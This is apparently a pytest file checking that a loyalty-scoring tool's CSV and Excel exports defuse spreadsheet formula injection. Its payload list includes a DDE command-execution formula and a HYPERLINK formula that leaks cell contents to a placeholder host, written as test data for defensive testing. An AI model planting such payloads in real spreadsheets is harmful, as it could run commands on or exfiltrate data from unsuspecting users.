"""Formula injection, end to end: hostile cell values (= + - @, tab, CR, LF, NUL,
DDE and HYPERLINK payloads) written by loyalty.export and by the command line's
``--output`` are read back from the files with independent readers (Python's csv
module, openpyxl, the raw workbook XML) and must be inert text, while numbers
stay numbers and ids stay text.  (tests/test_export.py covers the helpers; this
file covers the written files and the command line.)"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from loyalty import cli
from loyalty.export import Sheet, csv_bytes, excel_bytes
from loyalty.readers import read_table

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",  # DDE
    '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")',
    "+81-90-1234-5678",
    "-2+3",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",  # NUL in front: removed, then the = is defused
    "=\x001",
    "'=already quoted",
    "000123",
    "普通の文字列",
]


def _dangerous(text: str) -> bool:
    return text.startswith(TRIGGERS)


def _frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame({
        "顧客ID": pd.Series(PAYLOADS, dtype="str"),
        "メモ": pd.Series(list(reversed(PAYLOADS)), dtype=object),
        "購入金額": np.linspace(-5000.5, 5000.5, n),
        "購入回数": np.arange(-3, n - 3, dtype=np.int64),
    })


# ----------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_csv_cells_read_back_are_inert_numbers_numbers_ids_text(encoding):
    df = _frame()
    result = csv_bytes(df, encoding=encoding)
    rows = list(csv.reader(io.StringIO(result.data.decode(result.encoding), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["顧客ID", "メモ", "購入金額", "購入回数"]
    assert len(body) == len(df)
    for i, row in enumerate(body):
        for col in (0, 1):
            cell = row[col]
            assert "\x00" not in cell
            assert not _dangerous(cell), (i, col, cell)
            original = df.iloc[i, col].replace("\x00", "")
            # exactly one apostrophe in front when (and only when) the text needed it
            expected = "'" + original if re.match(r"'*[=+\-@\t\r\n]", original) else original
            assert cell == expected
        # numbers are written as plain numbers, negative ones included
        assert float(row[2]) == df["購入金額"].iloc[i] and int(row[3]) == df["購入回数"].iloc[i]
        assert not row[2].startswith("'") and not row[3].startswith("'")
    assert body[PAYLOADS.index("000123")][0] == "000123"


def test_csv_read_back_by_our_reader_gives_the_original_text_and_numbers():
    df = _frame()
    raw = read_table(csv_bytes(df).data, "export.csv")
    assert raw.frame["顧客ID"].tolist() == [p.replace("\x00", "").replace("\r", "\n") for p in PAYLOADS]
    assert raw.frame["購入回数"].astype(int).tolist() == df["購入回数"].tolist()
    needed = sum(bool(re.match(r"'*[=+\-@\t\r\n]", t.replace("\x00", ""))) for t in PAYLOADS)
    assert needed == 12
    assert ("note.rel_apostrophes_removed", {"count": 2 * needed}) in raw.notes


# ----------------------------------------------------------------------------- Excel


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("fast", [True, False], ids=["fast", "cells"])
def test_xlsx_cells_read_back_are_literal_text_and_real_numbers(fast):
    df = _frame()
    data = excel_bytes([Sheet("顧客", df, {"顧客ID": "text", "メモ": "text", "購入金額": "yen", "購入回数": "int"})],
                       fast=fast)
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    for i, payload in enumerate(PAYLOADS, start=2):
        for col, original in ((1, payload), (2, PAYLOADS[len(PAYLOADS) - i + 1])):
            cell = ws.cell(i, col)
            assert cell.data_type == "s" and cell.number_format == "@"
            # (openpyxl leaves the XML escape of CR, _x000D_, as it is)
            assert cell.value.replace("_x000D_", "\r") == original.replace("\x00", "")
        assert ws.cell(i, 3).data_type == "n" and ws.cell(i, 3).value == pytest.approx(df["購入金額"].iloc[i - 2])
        assert ws.cell(i, 4).data_type == "n" and ws.cell(i, 4).value == df["購入回数"].iloc[i - 2]
    assert ws.cell(2 + PAYLOADS.index("000123"), 1).value == "000123"


def test_xlsx_header_and_sheet_name_cannot_carry_a_formula():
    data = excel_bytes([Sheet("=1+1", pd.DataFrame({"=SUM(A1)": ["x"], "@cmd": [1]}))])
    xml = _sheet_xml(data)
    assert "<f>" not in xml
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book.active
    assert [ws.cell(1, 1).value, ws.cell(1, 2).value] == ["=SUM(A1)", "@cmd"]
    assert ws.cell(1, 1).data_type == "s"


# ----------------------------------------------------------------------------- the command line


ID_PAYLOADS = ["=1+1", "+81312345678", "-5x", "@SUM(A1)", '=HYPERLINK("http://example.invalid")', "000123"]


@pytest.fixture
def hostile_orders(tmp_path) -> Path:
    lines = ["会員番号,購入日,金額"]
    for k, cid in enumerate(ID_PAYLOADS):
        quoted = '"' + cid.replace('"', '""') + '"'
        lines.append(f"{quoted},2024/06/{10 + k:02d},{(k + 1) * 1000}")
    path = tmp_path / "orders.csv"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    return path


def test_cli_csv_output_is_defused_and_keeps_numbers(hostile_orders, tmp_path, capsys):
    out = tmp_path / "scores.csv"
    assert cli.main(["score", str(hostile_orders), "--as-of", "2024-06-30", "--output", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    by_id = {r["customer_id"]: r for r in rows}
    assert set(by_id) == {("'" + c if _dangerous(c) else c) for c in ID_PAYLOADS}
    for r in rows:
        for value in r.values():
            assert not _dangerous(value) or re.fullmatch(r"-?\d+(\.\d+)?", value), value
        assert re.fullmatch(r"\d+", r["recency_days"]) and re.fullmatch(r"\d+(\.0)?", r["monetary"])
    assert by_id["'=1+1"]["monetary"] in ("1000", "1000.0") and by_id["'=1+1"]["recency_days"] == "20"
    assert by_id["000123"]["monetary"] in ("6000", "6000.0")
    # and our own reader gets the original ids back
    back = read_table(out.read_bytes(), "scores.csv")
    assert sorted(back.frame["customer_id"]) == sorted(ID_PAYLOADS)


def test_cli_xlsx_output_is_literal_text_and_numbers(hostile_orders, tmp_path):
    out = tmp_path / "scores.xlsx"
    assert cli.main(["score", str(hostile_orders), "--as-of", "2024-06-30", "--output", str(out)]) == 0
    data = out.read_bytes()
    assert "<f>" not in _sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    header = [c.value for c in ws[1]]
    ids = {ws.cell(r, 1).value: r for r in range(2, ws.max_row + 1)}
    assert set(ids) == set(ID_PAYLOADS)
    for r in ids.values():
        assert ws.cell(r, 1).data_type == "s"
    recency = header.index("最終購入からの日数") + 1
    money = header.index("購入金額（期間内）") + 1
    row = ids["=1+1"]
    assert ws.cell(row, recency).data_type == "n" and ws.cell(row, recency).value == 20
    assert ws.cell(row, money).data_type == "n" and ws.cell(row, money).value == 1000
    assert ws.cell(ids["000123"], money).value == 6000
